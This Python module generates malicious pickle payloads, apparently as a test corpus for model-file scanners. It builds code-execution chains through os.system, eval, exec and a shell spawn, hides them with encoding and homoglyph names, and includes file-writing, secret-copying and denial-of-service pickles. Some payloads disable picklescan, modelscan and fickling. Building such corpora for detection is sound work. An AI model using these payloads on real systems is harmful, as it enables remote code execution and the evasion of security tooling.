"""name_families - attacks that lie in what is named and called: resolvers, chains, nesting, delay."""

from __future__ import annotations

import marshal
import random
import struct
from typing import Any

import invented
from arguments import Arguments
from assembler import (
    Build,
    Call,
    Name,
    New,
    Raw,
    Style,
    any_style,
    assemble,
    attribute,
    emit,
    finish,
)
from callables import Payload, from_expression, gadget_words, inner_pickle
from expressions import nodes_of
from fillers import filler_value
from gadget_table import LINES
from opcode_families import FAMILIES as OPCODE_FAMILIES
from opcode_families import Maker, named

IMPORT = ("importlib", "import_module")


def call(module: str, path: str, *arguments: Any) -> Call:
    return Call(Name(module, path), arguments)


def system_of(rng: random.Random, module: Any) -> Any:
    """The function, from the module that holds it."""
    return attribute(module, rng.choice(["system", "popen"]))


def made(rng: random.Random, node: Any, lowest: int = 0) -> bytes:
    style = any_style(rng)
    if style.protocol < lowest:
        style.protocol = 4
    return assemble(node, style)


def shell(rng: random.Random) -> str:
    return Arguments(rng).shell()


def o8(rng: random.Random, one: Payload) -> bytes:
    callee, arguments = named(rng, one)
    owner = Name(
        *rng.choice(
            [
                ("string", "Template"),
                ("argparse", "Namespace"),
                ("torch.nn", "Linear"),
                ("logging", "Logger"),
                ("numpy", "ndarray"),
            ]
        )
    )
    hook = rng.choice(
        ["__setstate__", "__call__", "__reduce__", "__getattr__", "forward", "__init__", "__eq__"]
    )
    patched = Build(owner, (None, {hook: callee}))
    if hook == "__setstate__":
        return made(rng, [patched, Build(New(owner, ()), arguments[0] if arguments else None)], 2)
    return made(rng, [patched, Call(owner, arguments)])


def o9(rng: random.Random, one: Payload) -> bytes:
    first, second = rng.choice(
        [("size", "shape"), ("ndim", "shape"), ("ravel", "size"), ("mean", "shape")]
    )
    spy = Build(Name("numpy", first), (None, {"shape": Name("numpy", "__builtins__")}))
    opened = Call(Name("numpy", second), (spy,))
    return made(
        rng,
        Call(
            attribute(opened, rng.choice(["get", "__getitem__"])), (rng.choice(["eval", "exec"]),)
        ),
    )


def computed(rng: random.Random, word: str) -> Any:
    """A word that only a call gives."""
    cut = rng.randrange(1, len(word)) if len(word) > 1 else 1
    ways: list[Any] = [
        call("builtins", "str", word.encode(), "utf-8"),
        call("_codecs", "decode", word.encode(), "latin1"),
        call("builtins", "str.join", "", [word[:cut], word[cut:]]),
        call("operator", "add", word[:cut], word[cut:]),
        call("builtins", "str.replace", word + "@", "@", ""),
        Call(attribute(word.upper(), "lower"), ()),
        call(
            "builtins", "getattr", call("builtins", "bytes.fromhex", word.encode().hex()), "decode"
        ),
        call("codecs", "decode", Arguments(rng).rot13(word), "rot13"),
        call("operator", "getitem", word[::-1], call("builtins", "slice", None, None, -1)),
        call("builtins", "chr", 111),
    ]
    return rng.choice(ways)


def o10(rng: random.Random, one: Payload) -> bytes:
    callee, arguments = named(rng, one)
    style = Style(4, rng.random() < 0.5, rng.random() < 0.5)
    which = rng.randrange(3)
    module = computed(rng, callee.module) if which != 1 else callee.module
    path = computed(rng, callee.path) if which else callee.path
    ops = [*emit(module, style), *emit(path, style), b"\x93", *emit(arguments, style), b"R"]
    return finish(ops, 4, style.framed)


def o22(rng: random.Random, one: Payload) -> bytes:
    holders = [
        "shutil",
        "torch.serialization",
        "pathlib",
        "logging",
        "tempfile",
        "glob",
        "zipfile",
        "numpy.f2py",
    ]
    holders += ["sklearn.utils", "transformers.utils", "invented", "random", "torch._utils"]
    path = rng.choice(
        ["os.system", "os.popen", "sys.modules", "subprocess.Popen", "_os.system", "os.execv"]
    )
    style = any_style(rng)
    style.protocol = rng.choice([4, 4, 5])
    return assemble(Call(Name(rng.choice(holders), path), (shell(rng),)), style)


def o23(rng: random.Random, one: Payload) -> bytes:
    text = Arguments(rng)
    old = [("__builtin__", "eval", text.expr()), ("__builtin__", "execfile", text.path())]
    old += [("commands", "getoutput", text.shell()), ("commands", "getstatusoutput", text.shell())]
    old += [
        ("__builtin__", "compile", text.code()),
        ("cPickle", "loads", inner_pickle(rng)),
        ("os", "popen2", text.shell()),
    ]
    old += [
        ("urllib", "urlopen", text.url()),
        ("urllib2", "urlopen", text.url()),
        ("popen2", "popen3", text.shell()),
    ]
    old += [
        ("__builtin__", "file", text.path()),
        ("__builtin__", "input", text.expr()),
        ("UserDict", "exec", text.code()),
    ]
    module, path, argument = rng.choice(old)
    style = any_style(rng)
    style.protocol, style.name = rng.choice([0, 0, 1, 2]), "plain"
    return assemble(call(module, path, argument), style)


def o24(rng: random.Random, one: Payload) -> bytes:
    classes = Call(Name("builtins", "object.__subclasses__"), ())
    number = rng.randrange(300)
    picked = Call(attribute(classes, "__getitem__"), (number,))
    text = Arguments(rng)
    ways: list[Any] = [
        Call(
            attribute(attribute(attribute(picked, "__init__"), "__globals__"), "get"), ("system",)
        ),
        attribute(attribute(picked, "__init__"), "__builtins__"),
        Call(Name("builtins", "print.__self__.eval"), (text.expr(),)),
        Call(Name("shutil", "copy.__globals__.get"), ("os",)),
        Call(
            attribute(
                attribute(attribute(Name("builtins", "print"), "__class__"), "__base__"),
                "__subclasses__",
            ),
            (),
        ),
        Call(Name("collections", "namedtuple.__globals__.__getitem__"), ("_sys",)),
        Call(attribute(attribute(Name("torch", "load"), "__globals__"), "get"), ("os",)),
        Call(attribute(attribute(attribute((), "__class__"), "__mro__"), "__getitem__"), (1,)),
    ]
    return made(rng, rng.choice(ways), 4)


def o25(rng: random.Random, one: Payload) -> bytes:
    loads = [(s, line) for s, line in LINES if s == "load"]
    line = rng.choice(loads)[1]
    inner = assemble(one.node, any_style(rng))
    for _ in range(rng.choice([0, 0, 0, 1, 3])):
        inner = assemble(call("pickle", "loads", inner), any_style(rng))
    return made(rng, nodes_of(line, {**gadget_words(rng), "INNER": inner}))


def code_object(rng: random.Random) -> Any:
    return compile(Arguments(rng).code(), invented.opaque(rng), "exec", dont_inherit=True)


def safe_code(rng: random.Random) -> Any:
    """A code object; texts that do not compile are drawn again."""
    for _ in range(20):
        try:
            return code_object(rng)
        except SyntaxError:
            continue
    return compile("__import__('os').system('id')", "x", "exec", dont_inherit=True)


def code_call(rng: random.Random) -> Call:
    """types.CodeType(…), as cloudpickle and hand-made attacks write it."""
    code = safe_code(rng)
    fields = (
        "argcount posonlyargcount kwonlyargcount nlocals stacksize flags code consts names varnames"
    )
    fields += " filename name qualname firstlineno linetable exceptiontable freevars cellvars"
    values = [getattr(code, f"co_{f}") for f in fields.split() if hasattr(code, f"co_{f}")]
    flat = tuple(
        tuple(v if isinstance(v, (str, int, bytes, float, type(None))) else None for v in value)
        if isinstance(value, tuple)
        else value
        for value in values
    )
    return call(
        rng.choice(["types", "builtins"]), "CodeType" if rng.random() < 0.8 else "code", *flat
    )


def o26(rng: random.Random, one: Payload) -> bytes:
    loaded = call("marshal", "loads", marshal.dumps(safe_code(rng)))
    ways: list[Any] = [
        Call(call("types", "FunctionType", loaded, {}), ()),
        call("builtins", "exec", loaded),
        call("builtins", "eval", loaded, {}),
        Call(call("types", "FunctionType", code_call(rng), {}), ()),
        Call(
            call("cloudpickle.cloudpickle", "_make_function", code_call(rng), {}, None, None, None),
            (),
        ),
        Call(
            call(
                "dill._dill",
                "_create_function",
                call("dill._dill", "_create_code", *code_call(rng).arguments),
                {},
            ),
            (),
        ),
        call("builtins", "exec", call("builtins", "compile", Arguments(rng).code(), "x", "exec")),
    ]
    return made(rng, rng.choice(ways), 3)


def resolved(rng: random.Random) -> tuple[Any, Any]:
    """A dangerous function found by a resolver, and what it is called with."""
    text = Arguments(rng)
    owner, name, argument = rng.choice(
        [
            ("os", "system", text.shell()),
            ("posix", "system", text.shell()),
            ("subprocess", "getoutput", text.shell()),
            ("subprocess", "Popen", text.argv()),
            ("builtins", "eval", text.expr()),
            ("builtins", "exec", text.code()),
            ("shutil", "rmtree", text.folder()),
            ("urllib.request", "urlopen", text.url()),
            ("pty", "spawn", "/bin/sh"),
        ]
    )
    module = rng.choice(
        [
            call(*IMPORT, owner),
            call("builtins", "__import__", owner),
            call("operator", "getitem", Name("sys", "modules"), owner),
            Call(attribute(Name("sys", "modules"), "get"), (owner,)),
        ]
    )
    ways: list[Any] = [
        attribute(module, name),
        call("pkgutil", "resolve_name", f"{owner}:{name}"),
        call("pydoc", "locate", f"{owner}.{name}"),
        call("inspect", "getattr_static", module, name),
        Call(call(rng.choice(["operator", "_operator"]), "attrgetter", name), (module,)),
        attribute(call("unittest.mock", "_importer", owner), name),
        call("builtins", "getattr", module, name, None),
        Call(attribute(attribute(module, "__dict__"), "get"), (name,)),
        call(
            "builtins",
            "next",
            call("builtins", "map", call("operator", "attrgetter", name), [module]),
        ),
        call("torch._jit_internal", "_qualified_name", f"{owner}.{name}"),
        call("hydra.utils", "get_method", f"{owner}.{name}"),
        call("dill._dill", "_get_attr", module, name),
        call("dill._dill", "_import_module", f"{owner}.{name}"),
    ]
    return rng.choice(ways), argument


def o27(rng: random.Random, one: Payload) -> bytes:
    function, argument = resolved(rng)
    if rng.random() < 0.15:
        return made(
            rng,
            Call(call("operator", "methodcaller", "system", shell(rng)), (call(*IMPORT, "os"),)),
        )
    return made(rng, Call(function, (argument,)))


def delayed(rng: random.Random, function: Any, arguments: tuple[Any, ...]) -> Any:
    partial = call("functools", "partial", function, *arguments)
    first = arguments[0] if arguments else None
    ways: list[Any] = [
        call("atexit", "register", function, *arguments),
        call("weakref", "finalize", Name("argparse", "Namespace"), function, *arguments),
        Call(partial, ()),
        {"callback": partial, "state": 1},
        call("builtins", "list", call("itertools", "starmap", function, [arguments])),
        call("builtins", "tuple", call("builtins", "map", function, [first])),
        call("builtins", "list", call("builtins", "filter", function, [first])),
        Call(attribute(call("collections", "defaultdict", partial), "__getitem__"), ("x",)),
        call("collections", "defaultdict", partial),
        call("threading", "Timer", 3.0, function, list(arguments)),
        call("builtins", "sorted", [first, first], None, function),
        call("functools", "reduce", function, [first, {}]),
        call("re", "sub", ".", partial, "x"),
        call("builtins", "iter", partial, None),
        call("concurrent.futures", "ThreadPoolExecutor.submit", None, function, *arguments),
        call("signal", "signal", 14, partial),
        call("sys", "settrace", partial),
        call("codecs", "register", partial),
        call("numpy", "vectorize", function),
        call("pandas.core.common", "pipe", first, function),
    ]
    return rng.choice(ways[:-2] if rng.random() < 0.8 else [Call(ways[-2], ([first],)), ways[-1]])


def o28(rng: random.Random, one: Payload) -> bytes:
    callee, arguments = named(rng, one)
    if rng.random() < 0.6:
        callee, arguments = Name(rng.choice(["os", "posix"]), "system"), (shell(rng),)
    return made(rng, delayed(rng, callee, arguments))


def o29(rng: random.Random, one: Payload) -> bytes:
    text = Arguments(rng)
    path, body = text.path(), text.code()
    opened = rng.choice(
        [
            ("io", "open"),
            ("codecs", "open"),
            ("builtins", "open"),
            ("_io", "open"),
            ("tarfile", "open"),
        ]
    )
    ways: list[Any] = [
        Call(
            attribute(call("pathlib", rng.choice(["Path", "PosixPath"]), path), "write_text"),
            (body,),
        ),
        Call(attribute(call(*opened, path, rng.choice(["w", "a"])), "write"), (body,)),
        call("logging", "FileHandler", path),
        call("distutils.file_util", "write_file", path, [body]),
        call("numpy", "savetxt", path, [body], "%s"),
        call("numpy", "save", path, body),
        Call(attribute(call("numpy", "array", [body]), "tofile"), (path,)),
        call("torch", "save", body, path),
        call("shutil", "copyfile", text.secret(), path),
        Call(attribute(call("pandas", "Series", [body]), "to_csv"), (path,)),
        call("joblib", "dump", body, path),
        call("pickle", "dump", body, call("io", "FileIO", path, "w")),
    ]
    return made(rng, rng.choice(ways))


def o30(rng: random.Random, one: Payload) -> bytes:
    text = Arguments(rng)
    code = text.code()
    packed = text.packed(code)
    hidden: list[Any] = [
        call("base64", "b64decode", packed),
        call("zlib", "decompress", packed),
        call("_codecs", "decode", text.rot13(code), "rot13"),
        call("codecs", "decode", packed, rng.choice(["base64", "hex", "zlib"])),
        call("binascii", "unhexlify", code.encode().hex()),
        call("zlib", "decompress", call("base64", "b64decode", packed)),
        "\u200b" + code.replace("o", "\u043e"),
        call("builtins", "bytes.fromhex", code.encode().hex()),
        call("builtins", "str.join", "", [call("builtins", "chr", ord(c)) for c in code[:30]]),
        call("builtins", "bytes", list(code.encode()[:60])),
        call("builtins", "str.translate", code, {97: 98}),
        code[::-1],
        call("lzma", "decompress", packed),
    ]
    runner = rng.choice(
        [
            ("builtins", "exec"),
            ("builtins", "eval"),
            ("os", "system"),
            ("builtins", "exec"),
            ("runpy", "_run_code"),
        ]
    )
    if rng.random() < 0.15:  # the name is what is odd
        return assemble(
            call(
                *rng.choice(
                    [
                        ("\u043es", "system"),
                        ("os", "s\u0443stem"),
                        ("os ", "system"),
                        ("os", "system\u200b"),
                    ]
                ),
                text.shell(),
            ),
            Style(4),
        )
    return made(rng, call(*runner, rng.choice(hidden)))


def o31(rng: random.Random, one: Payload) -> bytes:
    switches: list[Any] = [
        Call(Name("picklescan.scanner", "_unsafe_globals.clear"), ()),
        call("modelscan.settings", "DEFAULT_SETTINGS.clear"),
        call("fickling.hook", "remove_hook"),
        call("fickling.hook", "deactivate_safe_ml_environment"),
        Build(Name("picklescan.scanner", "scan_pickle_bytes"), (None, {"__code__": None})),
        call("torch.serialization", "add_safe_globals", [Name("os", "system")]),
        Build(
            Name("torch._weights_only_unpickler", "_get_allowed_globals"),
            (None, {"__wrapped__": 1}),
        ),
        call("sys", "modules.pop", "modelscan"),
        call("modelaudit", "scanners.clear"),
    ]
    return made(rng, rng.choice(switches), 4)


def laughs(depth: int) -> bytes:
    """Lists of ten times the list before."""
    lists = [b"]\x94(" + (b"h" + bytes([n - 1]) if n else b"N") * 10 + b"e0" for n in range(depth)]
    return b"\x80\x04" + b"".join(lists) + b"h" + bytes([depth - 1]) + b"."


def o32(rng: random.Random, one: Payload) -> bytes:
    count = rng.randrange(24, 90)
    ways = [
        b"]" + b"2\x86" * count + b".",
        b"})" + b"2\x86" * count + b"Ns.",
        b"Nr" + struct.pack("<I", rng.randrange(1 << 28, 1 << 32)) + b".",
        laughs(rng.randrange(9, 30)),
        b"Np" + b"9" * rng.randrange(8, 12) + b"\n.",
        b"\x80\x04\x8f\x94(" + b"2\x86" * count + b"\x90.",
    ]
    return rng.choice(ways)


def o33(rng: random.Random, one: Payload) -> bytes:
    function, argument = resolved(rng)
    got = call("builtins", "next", call("builtins", "iter", [function]))
    ways: list[Any] = [
        Call(got, (argument,)),
        Call(call("operator", "getitem", [None, function], 1), (argument,)),
        Call(Call(attribute({"f": function}, "get"), ("f",)), (argument,)),
        Call(attribute(call("types", "SimpleNamespace"), "__class__"), (function, argument)),
        Call(Call(attribute([function], "pop"), ()), (argument,)),
        Call(call("functools", "partial", function), (argument,)),
    ]
    return made(rng, rng.choice(ways))


def o35(rng: random.Random, one: Payload) -> bytes:
    text = Arguments(rng)
    repo = f"{text.word()}/{text.word()}"
    ways = [
        call("torch.hub", "load", repo, text.word()),
        call("torch.hub", "load_state_dict_from_url", text.url()),
    ]
    ways += [
        call("transformers", f"{c}.from_pretrained", repo)
        for c in ("AutoModel", "AutoTokenizer", "pipeline")
    ]
    ways += [
        call("transformers", "pipeline", "text-generation", repo),
        call("huggingface_hub", "hf_hub_download", repo, "model.bin"),
    ]
    ways += [
        call("tensorflow_hub", "load", text.url()),
        call("keras.models", "load_model", text.path()),
    ]
    ways += [
        call("spacy", "load", text.word()),
        call("mlflow.pyfunc", "load_model", text.url()),
        call("joblib", "load", text.path()),
    ]
    return made(rng, rng.choice(ways), 4)


def plain_gadget(rng: random.Random, one: Payload) -> bytes:
    return made(rng, one.node)


def two_calls(rng: random.Random, one: Payload) -> bytes:
    other = from_expression(rng)
    node: Any = rng.choice(
        [
            [one.node, other.node],
            {"a": one.node, "b": filler_value(rng)},
            (filler_value(rng), one.node),
        ]
    )
    return made(rng, node)


def raw_state(rng: random.Random, one: Payload) -> bytes:
    """In the state of an object that looks like any other."""
    cls = Name(invented.module(rng), invented.class_name(rng))
    state = {invented.opaque(rng) + "_": filler_value(rng), "weights": one.node, "name": "m"}
    fresh = rng.choice(
        [
            New(cls, ()),
            Call(cls, ()),
            Call(Name("copyreg", "_reconstructor"), (cls, Name("builtins", "object"), None)),
        ]
    )
    return made(
        rng,
        Build(fresh, state if rng.random() < 0.6 else Raw(tuple(emit(one.node, Style(2, False))))),
    )


FAMILIES: dict[str, Maker] = {
    **OPCODE_FAMILIES,
    **{n.upper(): make for n, make in list(globals().items()) if n[:1] == "o" and n[1:].isdigit()},
    "gadget": plain_gadget,
    "gadgets": two_calls,
    "in-state": raw_state,
}
